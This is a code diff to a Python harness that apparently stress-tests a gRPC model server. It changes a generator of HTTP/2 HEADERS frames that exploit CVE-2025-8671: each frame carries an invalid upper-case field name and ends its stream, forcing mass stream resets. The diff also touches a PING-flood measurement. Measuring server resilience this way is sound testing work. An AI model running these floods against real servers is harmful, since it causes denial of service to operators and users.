@@ -132,12 +132,14 @@ def _resets() -> Iterator[bytes]:
 
 
 def _faults() -> Iterator[bytes]:
-    """Streams that the other side has to reset, for a fault of ours on each (CVE-2025-8671)."""
-    block = attack.grpc_head()
+    """Streams that the other side has to reset, for a field name in upper case on each (CVE-2025-8671).
+
+    Each is one frame that brings something forward, so that nothing but the count of faults ends this.
+    """
+    block = attack.grpc_head(("Fault", ""))
     for first in range(1, 1 << 22, 200):
         yield b"".join(
-            http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
-            + http2.frame(http2.WINDOW_UPDATE, 0, number, http2.number(0))
+            http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, number, block)
             for number in range(first, first + 200, 2)
         )
 
@@ -174,6 +176,7 @@ def _served(flood: Flood, ground: Ground) -> Figure:
 
 def _unread_pings(ground: Ground) -> Figure:
     """As many PINGs as the kernel holds, read at once by a server that was stopped; nobody reads their acks."""
+    ground.renew_model_server()
     port, service = ground.grpc_port, ground.model_server
     with Callers(port) as others, attack.begun(port) as connection:
         time.sleep(0.3)
